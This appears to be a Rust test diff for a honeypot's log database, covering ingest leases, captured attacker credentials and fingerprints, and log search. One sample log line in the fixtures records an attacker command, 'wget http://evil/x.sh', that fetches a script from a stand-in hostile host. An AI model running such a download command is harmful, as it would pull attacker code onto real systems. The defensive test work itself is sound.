@@ -2,9 +2,12 @@
 
 mod common;
 
-use chrono::{Duration, Utc};
+use chrono::{DateTime, Duration, Utc};
 use common::{TestDb, lifecycle};
-use svc::db::{DbError, LifecycleStatus, NewUser, RevokedToken, Role, STRANDED_LIFECYCLE_ERROR};
+use svc::db::{
+    BountyFilter, Db, DbError, IngestBatch, IngestCursor, LifecycleStatus, LogFilter, LogRecord, LogStats, NewBounty,
+    NewCredential, NewLog, NewUser, Page, RevokedToken, Role, STRANDED_LIFECYCLE_ERROR, parse_search,
+};
 use uuid::Uuid;
 
 fn new_user(name: &str, role: Role) -> NewUser {
@@ -176,6 +179,527 @@ async fn migrations_are_idempotent() {
         let db = backend.open().await;
         db.migrate().await.unwrap();
         db.ping().await.unwrap();
+        db.close().await;
+    }
+}
+
+// ---------------------------------------------------------------------------------------------
+// The log pipeline: ingest transactions, leases, bounties, credentials, and the log views.
+
+const SOURCE: &str = "/var/log/svc/ingest.log";
+const TTL: std::time::Duration = std::time::Duration::from_secs(60);
+
+/// A fixed instant (2026-11-21T14:00:00Z), so buckets and bounds are easy to read.
+fn t0() -> DateTime<Utc> {
+    DateTime::parse_from_rfc3339("2026-11-21T14:00:00Z").unwrap().with_timezone(&Utc)
+}
+
+fn new_log(at: DateTime<Utc>, decky: &str, service: &str, event_type: &str, attacker_ip: &str, raw: &str) -> NewLog {
+    NewLog {
+        timestamp: at,
+        decky: decky.into(),
+        service: service.into(),
+        event_type: event_type.into(),
+        attacker_ip: attacker_ip.into(),
+        raw_line: raw.into(),
+        fields: "{}".into(),
+        msg: None,
+    }
+}
+
+fn cursor(offset: u64) -> IngestCursor {
+    IngestCursor { file_id: "2049:1234".into(), offset }
+}
+
+fn batch(logs: Vec<NewLog>, to: Option<IngestCursor>) -> IngestBatch {
+    IngestBatch { logs, cursor: to, ..IngestBatch::default() }
+}
+
+async fn hold_lease(db: &Db, holder: &str) {
+    assert!(db.acquire_ingest_lease(SOURCE, holder, Utc::now(), TTL).await.unwrap(), "{holder} takes the lease");
+}
+
+async fn all_logs(db: &Db) -> Page<LogRecord> {
+    db.logs(&LogFilter::default(), 1000, 0).await.unwrap()
+}
+
+#[tokio::test]
+async fn ingest_commits_rows_and_cursor_together() {
+    for backend in TestDb::all() {
+        let db = backend.open().await;
+        hold_lease(&db, "a").await;
+        assert_eq!(db.ingest_cursor(SOURCE).await.unwrap(), None);
+        assert_eq!(db.last_log_id().await.unwrap(), 0);
+
+        let mut first = new_log(t0(), "ssh-01", "ssh", "login", "10.0.0.1", "line one");
+        first.fields = r#"{"username":"root"}"#.into();
+        first.msg = Some("Failed password".into());
+        let second = new_log(t0() + Duration::seconds(1), "web-01", "http", "request", "10.0.0.2", "line two");
+        let done = db
+            .commit_ingest(SOURCE, "a", None, &batch(vec![first.clone(), second.clone()], Some(cursor(100))))
+            .await
+            .unwrap();
+        assert_eq!((done.logs, done.new_bounties, done.new_credentials), (2, 0, 0), "{}", backend.name);
+        assert_eq!(done.last_log_id, db.last_log_id().await.unwrap());
+        assert_eq!(db.ingest_cursor(SOURCE).await.unwrap(), Some(cursor(100)));
+
+        let page = all_logs(&db).await;
+        assert_eq!(page.total, 2);
+        let stored = &page.rows[1];
+        assert_eq!(stored.id, done.last_log_id - 1);
+        assert_eq!(
+            (stored.timestamp, &stored.decky, &stored.service, &stored.event_type, &stored.attacker_ip),
+            (first.timestamp, &first.decky, &first.service, &first.event_type, &first.attacker_ip)
+        );
+        assert_eq!((&stored.raw_line, &stored.fields, &stored.msg), (&first.raw_line, &first.fields, &first.msg));
+        assert_eq!((&stored.trace_id, &stored.span_id), (&None, &None));
+        assert_eq!(page.rows[0].raw_line, second.raw_line);
+
+        // The cursor is compare-and-set: a stale or missing expectation stores nothing.
+        let third = batch(vec![new_log(t0(), "ssh-01", "ssh", "login", "10.0.0.3", "three")], Some(cursor(200)));
+        for stale in [None, Some(cursor(50)), Some(IngestCursor { file_id: "2049:9".into(), offset: 100 })] {
+            assert!(matches!(db.commit_ingest(SOURCE, "a", stale.as_ref(), &third).await, Err(DbError::Conflict)));
+        }
+        assert_eq!(all_logs(&db).await.total, 2);
+        assert_eq!(db.log_stats().await.unwrap().total_logs, 2);
+        assert_eq!(db.ingest_cursor(SOURCE).await.unwrap(), Some(cursor(100)));
+        assert_eq!(db.last_log_id().await.unwrap(), done.last_log_id);
+
+        let done = db.commit_ingest(SOURCE, "a", Some(&cursor(100)), &third).await.unwrap();
+        assert_eq!(done.logs, 1);
+        assert_eq!(done.last_log_id, db.last_log_id().await.unwrap());
+
+        // An empty batch with a cursor moves the cursor only (a skipped line, a rotation).
+        let rotated = IngestCursor { file_id: "2049:5678".into(), offset: 0 };
+        let done =
+            db.commit_ingest(SOURCE, "a", Some(&cursor(200)), &batch(vec![], Some(rotated.clone()))).await.unwrap();
+        assert_eq!(done.logs, 0);
+        assert_eq!(done.last_log_id, db.last_log_id().await.unwrap());
+        assert_eq!(db.ingest_cursor(SOURCE).await.unwrap(), Some(rotated.clone()));
+        // Without a cursor, the batch leaves it where it is.
+        db.commit_ingest(SOURCE, "a", Some(&rotated), &batch(vec![new_log(t0(), "d", "s", "e", "i", "r")], None))
+            .await
+            .unwrap();
+        assert_eq!(db.ingest_cursor(SOURCE).await.unwrap(), Some(rotated));
+        assert_eq!(all_logs(&db).await.total, 4);
+
+        // Sources are independent.
+        assert_eq!(db.ingest_cursor("other").await.unwrap(), None);
+        db.close().await;
+    }
+}
+
+#[tokio::test]
+async fn ingest_lease_story() {
+    for backend in TestDb::all() {
+        let db = backend.open().await;
+        let now = Utc::now();
+        assert!(db.acquire_ingest_lease(SOURCE, "a", now, TTL).await.unwrap(), "{}", backend.name);
+        // Held: refused to another holder, renewed for the same one.
+        assert!(!db.acquire_ingest_lease(SOURCE, "b", now, TTL).await.unwrap());
+        assert!(db.acquire_ingest_lease(SOURCE, "a", now + Duration::seconds(30), TTL).await.unwrap());
+        // The renewal counts from its own `now`: still held 80 s after the first take.
+        assert!(!db.acquire_ingest_lease(SOURCE, "b", now + Duration::seconds(80), TTL).await.unwrap());
+        // Expired: anyone may take it; its end is exclusive.
+        assert!(db.acquire_ingest_lease(SOURCE, "b", now + Duration::seconds(90), TTL).await.unwrap());
+        assert!(!db.acquire_ingest_lease(SOURCE, "a", now + Duration::seconds(91), TTL).await.unwrap());
+        // Other sources have their own lease.
+        assert!(db.acquire_ingest_lease("other", "a", now, TTL).await.unwrap());
+
+        // Release gives it up only for its holder.
+        db.release_ingest_lease(SOURCE, "a").await.unwrap();
+        assert!(!db.acquire_ingest_lease(SOURCE, "a", now + Duration::seconds(91), TTL).await.unwrap());
+        db.release_ingest_lease(SOURCE, "b").await.unwrap();
+        assert!(db.acquire_ingest_lease(SOURCE, "a", now, TTL).await.unwrap());
+        db.release_ingest_lease(SOURCE, "nobody").await.unwrap();
+
+        // Only the holder of a live lease commits; anyone else stores nothing.
+        let one = batch(vec![new_log(t0(), "ssh-01", "ssh", "login", "10.0.0.1", "x")], Some(cursor(10)));
+        assert!(matches!(db.commit_ingest(SOURCE, "b", None, &one).await, Err(DbError::Conflict)));
+        assert!(matches!(db.commit_ingest("unleased", "a", None, &one).await, Err(DbError::Conflict)));
+        assert!(db.acquire_ingest_lease(SOURCE, "a", Utc::now() - Duration::seconds(61), TTL).await.unwrap());
+        assert!(matches!(db.commit_ingest(SOURCE, "a", None, &one).await, Err(DbError::Conflict)), "expired");
+        assert_eq!(all_logs(&db).await.total, 0);
+        assert_eq!(db.ingest_cursor(SOURCE).await.unwrap(), None);
+        assert_eq!(db.last_log_id().await.unwrap(), 0);
+        hold_lease(&db, "a").await;
+        db.commit_ingest(SOURCE, "a", None, &one).await.unwrap();
+        assert_eq!(all_logs(&db).await.total, 1);
+
+        // Of many concurrent acquirers of a free lease, exactly one wins; the same for an expired one.
+        for (source, at) in [("raced", Utc::now()), (SOURCE, Utc::now() + Duration::seconds(120))] {
+            let attempts: Vec<_> = (0..8)
+                .map(|i| {
+                    let db = db.clone();
+                    tokio::spawn(
+                        async move { db.acquire_ingest_lease(source, &format!("h{i}"), at, TTL).await.unwrap() },
+                    )
+                })
+                .collect();
+            let mut winners = 0;
+            for attempt in attempts {
+                winners += usize::from(attempt.await.unwrap());
+            }
+            assert_eq!(winners, 1, "{source} on {}", backend.name);
+        }
+        db.close().await;
+    }
+}
+
+fn new_bounty(ip: &str, bounty_type: &str, payload: &str) -> NewBounty {
+    NewBounty {
+        timestamp: t0(),
+        decky: "web-01".into(),
+        service: "http".into(),
+        attacker_ip: ip.into(),
+        bounty_type: bounty_type.into(),
+        payload: payload.into(),
+    }
+}
+
+#[tokio::test]
+async fn bounties_are_stored_once_and_listed() {
+    for backend in TestDb::all() {
+        let db = backend.open().await;
+        hold_lease(&db, "a").await;
+        let ua = new_bounty("10.0.0.1", "fingerprint", r#"{"fingerprint_type":"http_useragent","value":"curl/8"}"#);
+        let mut later_ua = ua.clone();
+        later_ua.timestamp = t0() + Duration::minutes(1);
+        later_ua.decky = "web-02".into();
+        let first = IngestBatch {
+            bounties: vec![ua.clone(), later_ua, new_bounty("10.0.0.2", "fingerprint", &ua.payload)],
+            cursor: Some(cursor(1)),
+            ..IngestBatch::default()
+        };
+        let done = db.commit_ingest(SOURCE, "a", None, &first).await.unwrap();
+        assert_eq!(done.new_bounties, 2, "a repeat within one batch is stored once ({})", backend.name);
+
+        let second = IngestBatch {
+            bounties: vec![
+                ua.clone(),
+                new_bounty("10.0.0.1", "credential", r#"{"user":"a_b 50%\\"}"#),
+                new_bounty("10.0.0.3", "artifact", r#"{"stored_as":"axb"}"#),
+            ],
+            cursor: Some(cursor(2)),
+            ..IngestBatch::default()
+        };
+        let done = db.commit_ingest(SOURCE, "a", Some(&cursor(1)), &second).await.unwrap();
+        assert_eq!(done.new_bounties, 2, "a repeat across batches is stored once");
+
+        let everything = db.bounties(&BountyFilter::default(), 10, 0).await.unwrap();
+        assert_eq!(everything.total, 4);
+        assert!(everything.rows.windows(2).all(|w| (w[0].timestamp, w[0].id) > (w[1].timestamp, w[1].id)));
+        let stored = everything.rows.iter().find(|b| b.attacker_ip == "10.0.0.2").unwrap();
+        assert_eq!((stored.bounty_type.as_str(), stored.payload.as_str()), ("fingerprint", ua.payload.as_str()));
+        assert_eq!((stored.timestamp, stored.decky.as_str(), stored.service.as_str()), (t0(), "web-01", "http"));
+
+        let by = |bounty_type: Option<&str>, search: Option<&str>| BountyFilter {
+            bounty_type: bounty_type.map(str::to_string),
+            search: search.map(str::to_string),
+        };
+        let page = db.bounties(&by(Some("fingerprint"), None), 1, 0).await.unwrap();
+        assert_eq!((page.total, page.rows.len()), (2, 1));
+        let next = db.bounties(&by(Some("fingerprint"), None), 1, 1).await.unwrap();
+        assert_eq!(next.total, 2);
+        assert_ne!(page.rows[0].id, next.rows[0].id);
+        assert_eq!(db.bounties(&by(Some("finger"), None), 10, 0).await.unwrap().total, 0, "type is exact");
+        assert_eq!(db.bounties(&by(None, Some("10.0.0.3")), 10, 0).await.unwrap().total, 1);
+        assert_eq!(db.bounties(&by(None, Some("curl/8")), 10, 0).await.unwrap().total, 2, "payload");
+        assert_eq!(db.bounties(&by(Some("credential"), Some("10.0.0.1")), 10, 0).await.unwrap().total, 1);
+        // `%`, `_` and `\` are literal.
+        assert_eq!(db.bounties(&by(None, Some("50%\\")), 10, 0).await.unwrap().total, 1);
+        assert_eq!(db.bounties(&by(None, Some("%")), 10, 0).await.unwrap().total, 1);
+        assert_eq!(db.bounties(&by(None, Some("a_b")), 10, 0).await.unwrap().total, 1, "not `axb`");
+        assert_eq!(db.bounties(&by(None, Some("web-02")), 10, 0).await.unwrap().total, 0);
+        db.close().await;
+    }
+}
+
+fn new_credential(ip: &str, principal: Option<&str>, secret: &str, seen_at: DateTime<Utc>) -> NewCredential {
+    NewCredential {
+        seen_at,
+        attacker_ip: ip.into(),
+        decky: "ssh-01".into(),
+        service: "ssh".into(),
+        secret_kind: "plaintext".into(),
+        secret_sha256: format!("{:0>64}", secret),
+        principal: principal.map(str::to_string),
+        secret_printable: secret.into(),
+        secret_b64: "cGFzcw==".into(),
+        outcome: None,
+    }
+}
+
+#[tokio::test]
+async fn credentials_count_attempts() {
+    for backend in TestDb::all() {
+        let db = backend.open().await;
+        hold_lease(&db, "a").await;
+        let root = new_credential("10.0.0.1", Some("root"), "aa", t0());
+        let mut root_again = new_credential("10.0.0.1", Some("root"), "aa", t0() + Duration::seconds(5));
+        root_again.outcome = Some("failed".into());
+        let first = IngestBatch {
+            credentials: vec![
+                root.clone(),
+                root_again,
+                // No principal is its own key, apart from any named one.
+                new_credential("10.0.0.1", None, "aa", t0()),
+                new_credential("10.0.0.1", Some(""), "aa", t0()),
+                new_credential("10.0.0.2", Some("root"), "aa", t0()),
+            ],
+            cursor: Some(cursor(1)),
+            ..IngestBatch::default()
+        };
+        let done = db.commit_ingest(SOURCE, "a", None, &first).await.unwrap();
+        assert_eq!(done.new_credentials, 3, "{}", backend.name);
+
+        let mut later = new_credential("10.0.0.1", Some("root"), "aa", t0() + Duration::seconds(60));
+        later.secret_printable = "ignored on a repeat".into();
+        let second = IngestBatch {
+            credentials: vec![later, new_credential("10.0.0.1", Some("root"), "bb", t0() + Duration::seconds(61))],
+            cursor: Some(cursor(2)),
+            ..IngestBatch::default()
+        };
+        let done = db.commit_ingest(SOURCE, "a", Some(&cursor(1)), &second).await.unwrap();
+        assert_eq!(done.new_credentials, 1);
+
+        let rows = db.credentials(10).await.unwrap();
+        assert_eq!(rows.len(), 4);
+        assert!(rows.windows(2).all(|w| w[0].last_seen >= w[1].last_seen), "most recently seen first");
+        let root_aa = rows.iter().find(|c| {
+            c.attacker_ip == "10.0.0.1" && c.principal.as_deref() == Some("root") && c.secret_printable == "aa"
+        });
+        let root_aa = root_aa.unwrap();
+        assert_eq!(root_aa.attempt_count, 3);
+        assert_eq!((root_aa.first_seen, root_aa.last_seen), (t0(), t0() + Duration::seconds(60)));
+        // A repeat without an outcome keeps the one stored.
+        assert_eq!(root_aa.outcome.as_deref(), Some("failed"));
+        assert_eq!(root_aa.secret_sha256, root.secret_sha256);
+        assert_eq!((root_aa.secret_kind.as_str(), root_aa.secret_b64.as_str()), ("plaintext", "cGFzcw=="));
+        assert_eq!((root_aa.decky.as_str(), root_aa.service.as_str()), ("ssh-01", "ssh"));
+        let anonymous = rows.iter().find(|c| c.principal.is_none()).unwrap();
+        assert_eq!((anonymous.attempt_count, anonymous.outcome.as_deref()), (2, None));
+        assert_eq!(rows[0].secret_printable, "bb");
+        assert_eq!(rows[0].attempt_count, 1);
+
+        // A new outcome overwrites the old one.
+        let mut succeeded = new_credential("10.0.0.1", Some("root"), "aa", t0() + Duration::seconds(90));
+        succeeded.outcome = Some("success".into());
+        let third = IngestBatch { credentials: vec![succeeded], cursor: Some(cursor(3)), ..IngestBatch::default() };
+        assert_eq!(db.commit_ingest(SOURCE, "a", Some(&cursor(2)), &third).await.unwrap().new_credentials, 0);
+        let rows = db.credentials(1).await.unwrap();
+        assert_eq!(rows.len(), 1);
+        assert_eq!((rows[0].attempt_count, rows[0].outcome.as_deref()), (4, Some("success")));
+        db.close().await;
+    }
+}
+
+/// Rows for the search and view stories: one per minute from `t0()`, newest last.
+fn sample_logs() -> Vec<NewLog> {
+    let at = |minutes: i64| t0() + Duration::minutes(minutes);
+    let mut logs = vec![
+        new_log(at(0), "ssh-01", "ssh", "login", "10.0.0.1", "<13>1 ssh-01 sshd login user=root"),
+        new_log(at(1), "ssh-01", "ssh", "command", "10.0.0.1", "<13>1 ssh-01 sshd CMD wget http://evil/x.sh"),
+        new_log(at(2), "web-01", "http", "request", "10.0.0.2", "<13>1 web-01 GET /index.php?a=50%25&a=b"),
+        new_log(at(3), "web-01", "http", "request", "10.0.0.3", "<13>1 web-01 GET /50%_off\\sale"),
+        new_log(at(4), "web-01", "http", "request", "Unknown", "<13>1 web-01 GET /a_b"),
+        new_log(at(16), "ftp-01", "ftp", "login", "10.0.0.2", "<13>1 ftp-01 USER Admin"),
+    ];
+    logs[0].fields = r#"{"username":"root","password":"toor"}"#.into();
+    logs[5].fields = r#"{"username":"admin","remote_port":"2121"}"#.into();
+    logs[2].fields = r#"{"path":"/index.php","user.name":"dotted"}"#.into();
+    logs
+}
+
+async fn seeded(backend: &TestDb) -> Db {
+    let db = backend.open().await;
+    hold_lease(&db, "a").await;
+    db.commit_ingest(SOURCE, "a", None, &batch(sample_logs(), Some(cursor(1)))).await.unwrap();
+    db
+}
+
+#[tokio::test]
+async fn log_search_matches_the_dashboard_grammar() {
+    for backend in TestDb::all() {
+        let db = seeded(&backend).await;
+        let raw = |rows: Vec<LogRecord>| rows.into_iter().map(|r| r.raw_line).collect::<Vec<_>>();
+        let search = |text: &str| {
+            let db = db.clone();
+            let filter = LogFilter { terms: parse_search(text), ..LogFilter::default() };
+            let text = text.to_string();
+            async move {
+                let page = db.logs(&filter, 100, 0).await.unwrap();
+                assert_eq!(page.total as usize, page.rows.len(), "{text}");
+                page.rows.len()
+            }
+        };
+        assert_eq!(search("decky:ssh-01").await, 2, "{}", backend.name);
+        assert_eq!(search("service:http").await, 3);
+        assert_eq!(search("event:login").await, 2);
+        for key in ["attacker", "attacker-ip", "attacker_ip"] {
+            assert_eq!(search(&format!("{key}:10.0.0.2")).await, 2, "{key}");
+        }
+        assert_eq!(search("decky:ssh").await, 0, "columns match exactly");
+        // Fields: `key:value` on the JSON text, the key reduced to [A-Za-z0-9_].
+        assert_eq!(search("username:root").await, 1);
+        assert_eq!(search("username:admin").await, 1);
+        assert_eq!(search("remote_port:2121").await, 1);
+        assert_eq!(search("user-name:root").await, 1, "`user-name` is the field `username`");
+        assert_eq!(search("user.name:dotted").await, 0, "`user.name` is the field `username` too");
+        assert_eq!(search("username:ro").await, 0, "fields match exactly");
+        assert_eq!(search("nosuchfield:x").await, 0);
+        // Bare tokens: substrings of raw_line, decky, service or attacker_ip; letter case ignored.
+        assert_eq!(search("wget").await, 1);
+        assert_eq!(search("WGET").await, 1);
+        assert_eq!(search("web").await, 3);
+        assert_eq!(search("10.0.0").await, 5);
+        assert_eq!(search("ftp").await, 1);
+        // `%`, `_` and `\` are literal, not wildcards.
+        assert_eq!(search("50%").await, 2);
+        assert_eq!(search("50%_").await, 1);
+        assert_eq!(search("a_b").await, 1);
+        assert_eq!(search("%").await, 2);
+        assert_eq!(search("_").await, 2);
+        assert_eq!(search("\\\\").await, 1);
+        assert_eq!(search("'\\'").await, 1);
+        // Terms are AND-ed; quotes group.
+        assert_eq!(search("service:http 10.0.0.3").await, 1);
+        assert_eq!(search("decky:ssh-01 event:login username:root").await, 1);
+        assert_eq!(search("decky:ssh-01 decky:web-01").await, 0);
+        assert_eq!(search("\"GET /a_b\"").await, 1);
+        assert_eq!(search("\"web-01 GET\"").await, 3);
+        assert_eq!(search("GET web-01").await, 3, "two terms, each anywhere");
+        assert_eq!(search("\"GET web-01\"").await, 0, "one term");
+        // A URL is a field search on `http`.
+        assert_eq!(search("http://evil/x.sh").await, 0);
+        assert_eq!(search("null").await, 6);
+
+        let filter = LogFilter { terms: parse_search("decky:web-01"), ..LogFilter::default() };
+        let rows = db.logs(&filter, 2, 1).await.unwrap();
+        assert_eq!(rows.total, 3);
+        assert_eq!(raw(rows.rows), ["<13>1 web-01 GET /50%_off\\sale", "<13>1 web-01 GET /index.php?a=50%25&a=b"]);
+        db.close().await;
+    }
+}
+
+#[tokio::test]
+async fn log_views_page_bound_count_and_bucket() {
+    for backend in TestDb::all() {
+        let db = seeded(&backend).await;
+        let at = |minutes: i64| t0() + Duration::minutes(minutes);
+
+        // Newest first, ties on the timestamp by id; totals with and without a filter.
+        let page = db.logs(&LogFilter::default(), 2, 0).await.unwrap();
+        assert_eq!(page.total, 6, "{}", backend.name);
+        assert_eq!(page.rows.iter().map(|r| r.timestamp).collect::<Vec<_>>(), [at(16), at(4)]);
+        let tail = db.logs(&LogFilter::default(), 50, 5).await.unwrap();
+        assert_eq!((tail.total, tail.rows.len()), (6, 1));
+        assert_eq!(tail.rows[0].timestamp, at(0));
+        assert_eq!(db.logs(&LogFilter::default(), 50, 6).await.unwrap().rows.len(), 0);
+        let tie = batch(
+            vec![
+                new_log(at(4), "web-01", "http", "request", "10.0.0.9", "tie one"),
+                new_log(at(4), "web-01", "http", "request", "10.0.0.9", "tie two"),
+            ],
+            Some(cursor(2)),
+        );
+        let done = db.commit_ingest(SOURCE, "a", Some(&cursor(1)), &tie).await.unwrap();
+        let page = db.logs(&LogFilter::default(), 3, 1).await.unwrap();
+        assert_eq!(page.total, 8);
+        assert_eq!(
+            page.rows.iter().map(|r| r.raw_line.as_str()).collect::<Vec<_>>(),
+            ["tie two", "tie one", "<13>1 web-01 GET /a_b"]
+        );
+        assert_eq!(page.rows[0].id, done.last_log_id);
+
+        // Time bounds are inclusive, alone or together, and combine with terms.
+        let between = |since: Option<i64>, until: Option<i64>, search: &str| LogFilter {
+            terms: parse_search(search),
+            since: since.map(at),
+            until: until.map(at),
+        };
+        let count = |filter: LogFilter| {
+            let db = db.clone();
+            async move { db.logs(&filter, 100, 0).await.unwrap().total }
+        };
+        assert_eq!(count(between(Some(1), Some(3), "")).await, 3);
+        assert_eq!(count(between(Some(4), None, "")).await, 4);
+        assert_eq!(count(between(None, Some(0), "")).await, 1);
+        assert_eq!(count(between(Some(2), Some(16), "service:http")).await, 5);
+        let just_after = LogFilter { since: Some(at(16) + Duration::milliseconds(1)), ..LogFilter::default() };
+        assert_eq!(count(just_after).await, 0);
+
+        // The stream's view: after an id, oldest first.
+        let first_id = db.logs(&LogFilter::default(), 1, 7).await.unwrap().rows[0].id;
+        let after = db.logs_after(first_id, &LogFilter::default(), 3).await.unwrap();
+        assert_eq!(after.iter().map(|r| r.id).collect::<Vec<_>>(), [first_id + 1, first_id + 2, first_id + 3]);
+        let after = db.logs_after(first_id, &between(None, None, "service:http"), 100).await.unwrap();
+        assert_eq!(after.len(), 5);
+        assert!(after.windows(2).all(|w| w[0].id < w[1].id));
+        assert!(db.logs_after(done.last_log_id, &LogFilter::default(), 10).await.unwrap().is_empty());
+        assert_eq!(db.last_log_id().await.unwrap(), done.last_log_id);
+
+        // Buckets aligned to the epoch, oldest first, empty ones left out.
+        let buckets = db.log_histogram(&LogFilter::default(), 15).await.unwrap();
+        let got: Vec<_> = buckets.iter().map(|b| (b.start, b.count)).collect();
+        assert_eq!(got, [(at(0), 7), (at(15), 1)]);
+        let buckets = db.log_histogram(&between(None, None, "service:http"), 2).await.unwrap();
+        let got: Vec<_> = buckets.iter().map(|b| (b.start, b.count)).collect();
+        assert_eq!(got, [(at(2), 2), (at(4), 3)]);
+        let buckets = db.log_histogram(&between(Some(1), Some(3), ""), 1).await.unwrap();
+        assert_eq!(buckets.iter().map(|b| b.count).collect::<Vec<_>>(), [1, 1, 1]);
+        // Alignment is to the epoch, not to the first row.
+        let odd = LogFilter { since: Some(at(1)), ..LogFilter::default() };
+        let buckets = db.log_histogram(&odd, 60).await.unwrap();
+        assert_eq!(buckets.iter().map(|b| (b.start, b.count)).collect::<Vec<_>>(), [(at(0), 7)]);
+        assert!(db.log_histogram(&between(None, None, "decky:none"), 15).await.unwrap().is_empty());
+
+        // `Unknown` is not an attacker.
+        let stats = db.log_stats().await.unwrap();
+        assert_eq!(stats, LogStats { total_logs: 8, unique_attackers: 4 });
+        db.close().await;
+    }
+}
+
+#[tokio::test]
+async fn a_batch_larger_than_one_statement_commits_whole() {
+    for backend in TestDb::all() {
+        let db = backend.open().await;
+        hold_lease(&db, "a").await;
+        // 5,000 lines of 4 KiB: 20 MiB, over MariaDB's default packet of 16 MiB and over sqlite's
+        // bound variables in one statement.
+        let long = "x".repeat(4096);
+        let logs: Vec<NewLog> = (0..5000)
+            .map(|i| {
+                let mut log = new_log(
+                    t0() + Duration::milliseconds(i),
+                    "d",
+                    "s",
+                    "e",
+                    &format!("10.1.{}.{}", i / 256, i % 256),
+                    &long,
+                );
+                log.fields = format!(r#"{{"n":"{i}"}}"#);
+                log
+            })
+            .collect();
+        let bounties: Vec<NewBounty> =
+            (0..3000).map(|i| new_bounty("10.0.0.1", "fingerprint", &format!(r#"{{"n":{i}}}"#))).collect();
+        let credentials: Vec<NewCredential> =
+            (0..3000).map(|i| new_credential("10.0.0.1", Some("root"), &format!("{i:x}"), t0())).collect();
+        let big = IngestBatch { logs, bounties, credentials, cursor: Some(cursor(5000 * 4097)) };
+        let done = db.commit_ingest(SOURCE, "a", None, &big).await.unwrap();
+        assert_eq!((done.logs, done.new_bounties, done.new_credentials), (5000, 3000, 3000), "{}", backend.name);
+        let page = all_logs(&db).await;
+        assert_eq!(page.total, 5000);
+        let filter = LogFilter { terms: parse_search("n:4999"), ..LogFilter::default() };
+        let last = db.logs(&filter, 10, 0).await.unwrap();
+        assert_eq!(last.total, 1);
+        assert_eq!(last.rows[0].raw_line.len(), 4096);
+        assert_eq!(last.rows[0].id, done.last_log_id);
+        assert_eq!(db.log_stats().await.unwrap().unique_attackers, 5000);
+        assert_eq!(db.bounties(&BountyFilter::default(), 1, 0).await.unwrap().total, 3000);
+        assert_eq!(db.ingest_cursor(SOURCE).await.unwrap(), Some(cursor(5000 * 4097)));
         db.close().await;
     }
 }
